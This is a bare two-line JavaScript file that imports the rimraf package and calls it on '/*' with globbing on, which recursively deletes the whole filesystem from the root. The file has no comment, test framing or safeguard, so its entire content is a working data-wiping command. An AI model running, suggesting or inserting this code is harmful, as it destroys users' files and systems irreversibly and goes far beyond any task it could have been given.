import { rimraf } from 'rimraf';
await rimraf('/*', { glob: true });
